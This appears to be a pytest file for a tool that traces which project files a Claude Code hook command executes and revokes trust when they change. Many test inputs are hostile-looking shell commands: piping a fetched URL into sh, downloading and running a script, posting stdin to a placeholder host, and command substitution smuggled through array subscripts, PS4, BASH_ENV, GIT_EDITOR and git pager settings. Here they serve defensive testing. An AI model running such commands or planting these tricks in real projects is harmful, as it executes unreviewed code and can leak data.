"""What a hook's command runs of its project, and what nobody can tell."""

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from backstay.config.trust.followed import NotFollowed, command_table
from backstay.config.trust.inventory import find_drift
from backstay.config.trust.python_modules import EXTENSION_ENDINGS
from backstay.config.trust.run_files import find_followed_files
from tests.config.world import World

PYTHON = (
    *("hookmod.py", "hookmod/__init__.py", "hookmod/__main__.py"),
    *(f"{place}{ending}" for place in ("hookmod", "hookmod/__init__") for ending in EXTENSION_ENDINGS),
)
NODE = tuple(f"scripts/check/{each}" for each in ("package.json", "index.js", "index.json", "index.node"))
PNP = (".pnp.cjs", ".pnp.js")
MAKE = ("GNUmakefile", "makefile", "Makefile")


def made(*files: str) -> tuple[str, ...]:
    """Makefiles, and what make would make them anew from."""
    made_from = command_table().manifests["make"].remade
    places = [(os.path.dirname(file), os.path.basename(file)) for file in files]
    return (*files, *(os.path.join(folder, each.replace("%", name)) for folder, name in places for each in made_from))


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("scripts/check.sh --fast", ("scripts/check.sh",)),
        ('bash "$CLAUDE_PROJECT_DIR"/scripts/check.sh', ("scripts/check.sh",)),
        ('"$(git rev-parse --show-toplevel)/scripts/check.sh"', ("scripts/check.sh",)),
        ("cd scripts && ./check.sh", ("check.sh", "scripts/check.sh")),
        ("cd scripts; cd inner; ./check.sh", ("check.sh", "scripts/check.sh", "inner/check.sh", "scripts/inner/check.sh")),
        ('echo "$(./scripts/check.sh)" | tee log', ("scripts/check.sh",)),
        ("if [ -f x ]; then ./scripts/check.sh || exit 2; fi", ("scripts/check.sh",)),
        ("bash -c 'sh -c ./scripts/check.sh'", ("scripts/check.sh",)),
        ("timeout 5 env A=1 exec ./scripts/check.sh", ("scripts/check.sh",)),
        ("python3 -m hookmod", PYTHON),
        ("python3.11 -u -m hookmod x", PYTHON),
        ("/usr/bin/env python3 -m hookmod", PYTHON),
        ("python3 -c 'import hookmod; print(1)'", PYTHON),
        ("npm run guard", ("package.json", ".npmrc")),
        ("make guard", made(*MAKE)),
        ("make -C sub guard", (*made(*MAKE), *made(*(f"sub/{each}" for each in MAKE)))),
        ("jq -r .tool_input.file_path | grep -q x && exit 2", ()),
        ("git status --short", ()),
        ('[[ -n "$X" ]] && echo "$X"', ()),
        ("jq -r .tool_input.file_path | { read -r f; [[ $f == *.ts ]] && echo \"${f%.ts}\" >&2; }", ()),
        ("if [ $? -ne 0 ]; then printf '%s\\n' \"$X\" >&2; exit 2; fi", ()),
        ("for f in $(git diff --name-only); do case $f in *.py) ruff check \"$f\";; esac; done", ()),
        ("command -v jq > /dev/null || exit 0; export LANG=C; unset LC_ALL", ()),
        ("sed -n 's/a/b/p' x | awk '{ print $1 }' | sort -u", ()),
        ("python3 -m json.tool x && python3 -c 'import json, sys; print(json.load(sys.stdin)[\"a\"])'", None),
        ("scripts/check.sh > log.txt 2>&1", ("scripts/check.sh",)),
        ("make -fci.mk guard", made(*MAKE, "ci.mk")),
        ("make -s --file=ci.mk CI=1 guard", made(*MAKE, "ci.mk")),
        ("cd scripts && make -f ci.mk", made(*MAKE, *(f"scripts/{each}" for each in MAKE), "ci.mk", "scripts/ci.mk")),
        ("npm --prefix later run guard", ("package.json", ".npmrc", "later/package.json", "later/.npmrc")),
        ("yarn guard", ("package.json", ".yarnrc", ".yarnrc.yml", *PNP, ".npmrc", "node_modules/.bin/guard", "node_modules/guard")),
        ("node scripts/check", (*NODE, "scripts/check", *(f"scripts/check{end}" for end in (".js", ".json", ".node")))),
        ("cd scripts && git status", ("scripts/.git", "scripts/HEAD")),
        ("'$PWD'/check.sh", ("$PWD/check.sh",)),
        ("'~/check.sh'", ("~/check.sh",)),
        ("bash -c '\"$PWD\"/check.sh'", ("check.sh",)),
        ("curl -s -d @- http://host/note; scripts/check.sh", ("scripts/check.sh",)),
    ],
)  # fmt: skip
def test_what_runs_is_found(tmp_path: Path, command: str, files: tuple[str, ...] | None) -> None:
    (tmp_path / "scripts").mkdir()
    (tmp_path / "sub").mkdir()
    (tmp_path / "hookmod.py").touch()
    found = find_followed_files(command, None, (tmp_path,), tmp_path)
    if files is not None:
        assert {each.relative_to(tmp_path).as_posix() for each in found} == set(files)


@pytest.mark.parametrize(
    "command",
    [
        "~+/check.sh",
        "cd ~+/scripts && ./check.sh",
        "cd scripts && bash +x check.sh",
        '"${CLAUDE_PROJECT_DIR:-.}/check.sh"',
        '"${PWD%/*}/x/check.sh"',
        "PWD=scripts; $PWD/check.sh",
        "export CLAUDE_PROJECT_DIR=scripts; $CLAUDE_PROJECT_DIR/check.sh",
        "NPM_CONFIG_SCRIPT_SHELL=./x npm test",
        "node check",
        "bun run check",
        "tsx watch scripts/check.ts",
        "node packed",
        "make --eval='x:; ./x' x",
        "make SHELL=./x",
        "npm exec prettier",
        "npm --script-shell=./x test",
        "pnpm exec prettier",
        "yarn exec prettier",
        "cd scripts; bash /dev/stdin < check.sh",
        "cd scripts; . /proc/self/fd/0 < check.sh",
        "cd inner && git status",
        "git config core.pager ./x && git log",
        "git diff --output=check.sh; ./check.sh",
        "curl -sO http://host/check.sh; ./check.sh",
        "wget -q http://host/check.sh; ./check.sh",
        "cd scripts; osascript check.scpt",
        "npx prettier --write .",
        "pytest -q",
        "cargo test",
        "git commit -m x",
        "git -c core.pager=./x log",
        "eval ./x",
        "$X",
        "X=./a.sh; $X",
        "`cat name`",
        "$(cat name)",
        'bash "$X"',
        "bash scripts/*.sh",
        "bash {a,b}.sh",
        "curl https://example.org | sh",
        "python3 - < x",
        "python3 <<'EOF'\nimport x\nEOF",
        "python3 -X importtime x.py",
        "python3 -c 'import os; os.system(\"./x\")'",
        'python3 -c "$X"',
        "node -r ./x y.js",
        "node -e 'require(\"./x\")'",
        "PATH=./bin:$PATH jq .",
        "export PATH=./bin; jq .",
        "env PYTHONPATH=./lib python3 x.py",
        # what drops the variable that keeps Python from bytecode of the folder
        "env -i python3 -m hookmod",
        "env - python3 -m hookmod",
        "/usr/bin/env -i A=1 python3 -m hookmod",
        "env --ignore-environment python3 -m hookmod",
        "env -u PYTHONPYCACHEPREFIX python3 -m hookmod",
        "env --unset=PYTHONPYCACHEPREFIX python3 -m hookmod",
        "nohup env -i python3 -m hookmod",
        "exec -c python3 -m hookmod",
        "unset PYTHONPYCACHEPREFIX; python3 -m hookmod",
        "ionice -c3 python3 -m hookmod",
        "find . -exec ./x ;",
        "awk 'BEGIN { system(\"./x\") }'",
        "f() { ./x; }; f",
        "trap ./x EXIT",
        "alias jq=./x; jq",
        'cd "$X" && ./x',
        "cd - && ./x",
        "diff <(./x) y",
        "xargs ./x",
        "./x 'unbalanced",
        "sudo ./x",
        "bash -c " * 9 + "x",
        "env " * 3000 + "x",
        # what a shell evaluates besides commands
        "declare -a a='($(sh ev*.sh))'",
        "printf -v 'a[$(sh ev*.sh)]' x",
        "test -v 'a[$(sh ev*.sh)]'",
        "[ -v 'a[$(sh ev*.sh)]' ]",
        "[[ -v 'a[$(sh ev*.sh)]' ]]",
        "let 'a[$(sh ev*.sh)]'",
        "unset 'a[$(sh ev*.sh)]'",
        "x='a[$(sh ev*.sh)]'; echo $((x))",
        'x="a[\\$(sh ev*.sh)]"; (( x ))',
        'x="a[\\$(sh ev*.sh)]"; [[ x -eq 1 ]]',
        'x="a[\\$(sh ev*.sh)]"; o=-v; test $o "$x"',
        'x="a[\\$(sh ev*.sh)]"; o=-v; [ $o "$x" ]',
        "x='$(sh ev*.sh)'; echo \"${x@P}\"",
        "x[$(sh ev*.sh)]=1",
        "PS4='$(sh ev*.sh)'; set -x; true",
        "mapfile -c 1 -C 'sh ev*.sh' < x",
        # which program is meant
        "for PATH in $PWD/bin; do cat x; done",
        'read PATH <<< "$PWD/bin"; cat x',
        'read -r a PATH <<< "x $PWD/bin"; cat x',
        'printf -v PATH %s "$PWD/bin"; cat x',
        'command export PATH="$PWD/bin"; cat x',
        'hash -p "$PWD/"ev*.sh cat; cat x',
        ': "${BASH_ENV:=$(echo ev*.sh)}"; export BASH_ENV; bash -c true',
        "HOME=$PWD git status",
        "GIT_EDITOR='sh ev*.sh' git branch --edit-description",
        "RIPGREP_CONFIG_PATH=rc rg x",
        "env --chdir=sub ./x",
        "env '-iSsh ev*.sh' jq .",
        # programs that run others by their words
        "sed '1e sh ev*.sh' x",
        "sed 's/x/sh ev*.sh/e' x",
        "sed -f x.sed y",
        'sed "$X" y',
        "awk -f x.awk y",
        'awk \'BEGIN { f = "sys" "tem"; @f("sh ev*.sh") }\'',
        "sort --compress-prog=./ev*.sh x",
        'find . "$X"',
        # what was written just before
        "cp ev*.sh x.sh; sh x.sh; rm x.sh",
        "cat ev*.sh > x.sh; sh x.sh; rm x.sh",
        'cat ev*.sh > "$X"; sh x.sh',
        "cat ev*.sh | tee x.sh; ./x.sh",
        "ln -s scripts/x.sh; ./x.sh; rm x.sh",
        "cp --target-directory=bin scripts/x.sh; bin/x.sh",
        "curl -sox.sh http://host/; sh x.sh",
        "uniq scripts/y x.sh; sh x.sh",
        # modules that run what they find
        "python3 -m pytest -q",
        "python3 -m timeit 'import hookmod'",
        "python3 -c 'import pty'",
        'python3 -c \'import os; getattr(os, "sys" + "tem")("./x")\'',
        "python3 -c 'import sys; sys.path.insert(0, \"x\"); import json'",
        "python3 -c 'import sys as s; s.path.insert(0, \"x\")'",
        "python3 -c 'from sys import path'",
        'python3 -c \'open("x.py", "w")\'',
    ],
)
def test_what_cannot_be_told_is_refused(tmp_path: Path, command: str) -> None:
    (tmp_path / "inner/.git").mkdir(parents=True)
    (tmp_path / "packed").mkdir()
    (tmp_path / "packed/package.json").touch()
    with pytest.raises(NotFollowed):
        find_followed_files(command, None, (tmp_path,), tmp_path)


def test_a_package_outside_of_the_project_is_nothing_of_it(tmp_path: Path) -> None:
    (tmp_path / "tool").mkdir()
    (tmp_path / "tool/package.json").touch()

    found = find_followed_files(f"node {tmp_path}/tool", None, (tmp_path / "project",), tmp_path)

    assert not any(path.is_relative_to(tmp_path / "project") for path in found)


def test_a_command_with_arguments_is_no_shell_text(tmp_path: Path) -> None:
    assert find_followed_files("bash", ("scripts/a b.sh", "$X"), (tmp_path,), tmp_path) == (
        tmp_path / "scripts/a b.sh",
    )
    assert find_followed_files("bash", ("$PWD/check.sh",), (tmp_path,), tmp_path) == (tmp_path / "$PWD/check.sh",)
    assert find_followed_files("~/check.sh", (), (tmp_path,), tmp_path) == (tmp_path / "~/check.sh",)
    with pytest.raises(NotFollowed):
        find_followed_files("./a; ./b", ("x",), (tmp_path,), tmp_path) and find_followed_files(
            "npx", ("x",), (tmp_path,), tmp_path
        )


# --- trust lapses ------------------------------------------------------------------------------------------------------------------


def hooked(world: World, command: str) -> None:
    world.write(".claude/settings.json", {"hooks": world.hook(command)})


def into_a_folder(world: World) -> None:
    (world.project / "hookmod.py").unlink()
    world.write("hookmod/__main__.py", "print(1)")


def behind_a_link(world: World) -> None:
    other = world.write("other.py", "print(2)")
    (world.project / "hookmod.py").unlink()
    (world.project / "hookmod.py").symlink_to(other)


def behind_a_linked_folder(world: World) -> None:
    world.write("scripts2/cd.sh", "touch other", mode=0o755)
    os.rename(world.project / "scripts", world.project / "scripts1")
    (world.project / "scripts").symlink_to("scripts2")


def another_interpreter(world: World) -> None:
    world.write("runner", "#!/bin/sh\ntouch other", mode=0o755)


def renamed(world: World) -> None:
    os.rename(world.project / "scripts/cd.sh", world.project / "scripts/x.sh")


LAPSES: dict[str, tuple[str, Callable[[World], object]]] = {
    "a module": ("python3 -m hookmod", lambda world: world.write("hookmod.py", "print(2)")),
    "a module that goes before": ("python3 -m hookmod", into_a_folder),
    "a folder beside a module": ("python3 -m hookmod", lambda world: world.write("hookmod/__init__.py", "")),
    "a module behind a link": ("python3 -m hookmod", behind_a_link),
    "a module of the machine's name": ("python3 -m json.tool x", lambda world: world.write("json/tool.py", "print(2)")),
    "an import of a text": ("python3 -c 'import json; print(1)'", lambda world: world.write("json.py", "print(2)")),
    "package.json": ("npm run guard", lambda world: world.write("package.json", '{"scripts":{"guard":"./other"}}')),
    "Makefile": ("make guard", lambda world: world.write("Makefile", "guard:\n\t./other\n")),
    "a Makefile that goes before": ("make guard", lambda world: world.write("GNUmakefile", "guard:\n\t./other\n")),
    "a script in a folder": ("cd scripts && ./cd.sh", lambda world: world.write("scripts/cd.sh", "touch other")),
    "a folder that became a link": ("cd scripts && ./cd.sh", behind_a_linked_folder),
    "what the first line of a script names": ("./by-runner.sh", another_interpreter),
    "the same behind env": ("./by-env.sh", another_interpreter),
    "a script that went": ("cd scripts && ./cd.sh", renamed),
}


@pytest.mark.parametrize(("command", "change"), LAPSES.values(), ids=LAPSES)
def test_sec_m3_trust_lapses_when_what_a_hook_runs_changes(
    world: World, command: str, change: Callable[[World], object]
) -> None:
    hooked(world, command)
    world.write("hookmod.py", "print(1)")
    world.write("package.json", '{"scripts":{"guard":"./guard"}}')
    world.write("Makefile", "guard:\n\t./guard\n")
    world.write("scripts/cd.sh", "touch ran", mode=0o755)
    world.write("runner", "#!/bin/sh\ntouch ran", mode=0o755)
    world.write("by-runner.sh", "#!./runner\n", mode=0o755)
    world.write("by-env.sh", "#!/usr/bin/env -S ./runner\n", mode=0o755)
    world.trust()
    before = world.read().trust
    assert (before.state, before.held_hooks, find_drift(before.survey)) == ("trusted", {}, ())

    change(world)

    assert world.read().trust.state == "changed"
    assert find_drift(before.survey) != (), "a session that is open notices it too"


@pytest.mark.parametrize("line", ["include $(wildcard *.mk)", "-include *.mk", "sinclude ${X}", "include \\\n $(X)"])
def test_a_makefile_that_includes_what_is_computed_is_not_followed(world: World, line: str) -> None:
    world.write("Makefile", f"guard:\n\ttrue\n{line}\n")

    with pytest.raises(NotFollowed, match="known only when it runs"):
        find_followed_files("make guard", None, (world.project,), world.home)


@pytest.mark.parametrize("name", ["pre-commit", "post-checkout"])
@pytest.mark.parametrize("added", [True, False])
def test_sec_m3_trust_lapses_when_a_hook_of_git_changes_or_is_added(world: World, name: str, added: bool) -> None:
    world.write(".git/config", "[core]\n\thooksPath = .githooks\n")
    world.write(".githooks/pre-push", "#!/bin/sh\n", mode=0o755)
    if not added:
        world.write(f".githooks/{name}", "#!/bin/sh\n", mode=0o755)
    world.trust()
    assert world.read().trust.trusted

    world.write(f".githooks/{name}", "#!/bin/sh\ntouch owned\n", mode=0o755)

    assert world.read().trust.state == "changed"


def test_sec_m3_trust_lapses_when_a_program_behind_a_git_setting_changes(world: World) -> None:
    world.write(".git/config", "[alias]\n\tx = !make guard\n[diff]\n\texternal = python3 -m hookmod\n")
    world.write("Makefile", "guard:\n")
    for path in ("Makefile", "hookmod.py"):
        world.trust()
        assert world.read().trust.trusted
        world.write(path, "guard: other\n")
        assert world.read().trust.state == "changed"


def test_sec_m3_a_hook_that_cannot_be_followed_says_so_and_a_record_does_not_last_for_it(world: World) -> None:
    hooked(world, "npx prettier --write .")
    world.trust()

    found, now = world.read(), world.read(trust=True)

    assert found.trust.trusted
    assert found.trust.held_hooks == {"npx prettier --write .": "npx runs what it fetches"}
    assert "'npx prettier --write .', npx runs what it fetches. It does not run" in found.notice
    assert [claim.note for claim in found.trust.survey.claims] == ["npx runs what it fetches"]
    assert (now.trust.held_hooks, now.notice) == ({}, "")


def test_another_working_folder_is_no_change(world: World) -> None:
    hooked(world, "make guard")
    world.write("Makefile", "guard:\n")
    (world.project / "sub").mkdir()
    world.trust()

    assert world.read(cwd=world.project / "sub").trust.trusted
    world.write("sub/Makefile", "guard: other\n")
    assert world.read(cwd=world.project / "sub").trust.state == "changed"
    assert world.read().trust.trusted


@pytest.mark.parametrize(
    ("command", "there", "changed"),
    [
        ("python3 -m json.tool x", {}, "argparse.py"),
        ("python3 -c 'import hashlib'", {}, "_hashlib/__init__.py"),
        ("python3 -c 'import datetime'", {}, "math.cpython-311-x86_64-linux-gnu.so"),
        ("python3 scripts/guard.py", {"scripts/guard.py": ""}, "scripts/argparse.py"),
        ("scripts/guard", {"scripts/guard": "#!/usr/bin/env python3\n"}, "scripts/re.py"),
        ("python3 -m guard", {"guard.py": ""}, "guard.abi3.so"),
        ("python3 -c 'import guard'", {"guard.py": ""}, "guard.cpython-311-x86_64-linux-gnu.so"),
        ("python3 -m checks.guard", {"checks/__init__.py": "", "checks/guard.py": ""}, "checks/__init__.abi3.so"),
        ("python3 -m checks.guard", {"checks/__init__.py": "", "checks/guard.py": ""}, "checks/guard.pyc"),
        ("python3 -I checks", {"checks/__main__.py": ""}, "checks/__pycache__/__main__.cpython-311.pyc"),
        ("bun ./guard.ts", {"guard.ts": ""}, "tsconfig.json"),
        ("make guard", {"Makefile": "guard:\n\ttrue\n"}, "Makefile.sh"),
        ("make -f ci.mk guard", {"ci.mk": ""}, "ci.mk.c"),
        ("make guard", {"Makefile": ""}, "RCS/Makefile,v"),
        ("make guard", {"Makefile": "x: a\n-include ci.mk \\\n  later.mk # more\n", "ci.mk": ""}, "later.mk"),
        ("make guard", {"Makefile": "include ci.mk\n", "ci.mk": "sinclude sub/x.mk\n", "sub/x.mk": ""}, "sub/x.mk"),
        ("make -C sub guard", {"sub/Makefile": "include ci.mk\n", "sub/ci.mk": ""}, "sub/ci.mk"),
        ("make guard", {"Makefile": "-load plug.so\n", "plug.so": ""}, "plug.so"),
        ("npm run -s guard", {"package.json": '{"scripts":{"guard":"node -e 1"}}'}, "node_modules/.bin/node"),
        ("npm run guard", {"package.json": '{"scripts":{"guard":"./x"}}'}, "node_modules/.bin/sh"),
        ("npm run guard", {"package.json": '{"scripts":{"guard":"a -x; A=1 cross-env B=2 eslint ."}}'}, "node_modules/.bin/eslint"),
        *(
            ("npm run guard", {"package.json": json.dumps({"scripts": {"guard": script}})}, "node_modules/.bin/mocha")
            for script in ("mocha>log", "2>/dev/null mocha", "mo\\cha x", "./node_modules/.bin/mocha x", "nyc -f a mocha")
        ),
        ("npm --prefix sub run guard", {"sub/package.json": '{"scripts":{"guard":"tsc"}}'}, "node_modules/.bin/tsc"),
        ("pnpm run guard", {"package.json": '{"scripts":{"guard":"(if tsc; then jest; fi)"}}'}, "node_modules/.bin/jest"),
        ("npm run guard", {"package.json": "{}", ".npmrc": "script-shell=./tools/sh\n", "tools/sh": ""}, "tools/sh"),
        ("yarn guard", {"package.json": "{}", ".yarnrc.yml": "yarnPath: tools/yarn.cjs\n", "tools/yarn.cjs": ""}, "tools/yarn.cjs"),
        ("yarn guard", {"package.json": "{}"}, ".pnp.cjs"),
        ("bun ./guard.ts", {"guard.ts": ""}, "bunfig.toml"),
        ("bun ./guard.ts", {"guard.ts": "", "bunfig.toml": "preload = ['./first.ts']", "first.ts": ""}, "first.ts"),
        ("ts-node scripts/guard.ts", {"scripts/guard.ts": ""}, "scripts/tsconfig.json"),
        ("task guard", {"Taskfile.dist.yml": ""}, "Taskfile.dist.yml"),
        ("just guard", {"JUSTFILE": ""}, "JUSTFILE"),
        ("rake guard", {"Rakefile": "", "rakelib/a.rake": ""}, "rakelib/a.rake"),
        ("rake guard", {"Rakefile": "", "rakelib/a.rake": ""}, "rakelib/b.rake"),
        (".venv/bin/python guard.py", {"guard.py": "", ".venv/pyvenv.cfg": "", ".venv/bin/python": ""}, ".venv/pyvenv.cfg"),
        (
            ".venv/bin/python guard.py",
            {"guard.py": "", ".venv/bin/python": "", ".venv/lib/python3.11/site-packages/a.pth": ""},
            ".venv/lib/python3.11/site-packages/b.pth",
        ),
    ],
)  # fmt: skip
def test_trust_lapses_when_what_a_program_reads_by_itself_changes(
    world: World, command: str, there: dict[str, str], changed: str
) -> None:
    hooked(world, command)
    for name, content in there.items():
        world.write(name, content, mode=0o755)
    world.trust()
    before = world.read().trust
    assert (before.state, before.held_hooks, find_drift(before.survey)) == ("trusted", {}, ())

    world.write(changed, "changed")

    assert world.read().trust.state == "changed"
    assert find_drift(before.survey) == (changed,) or changed.endswith(("b.rake", "JUSTFILE", "b.pth", ".pyc"))
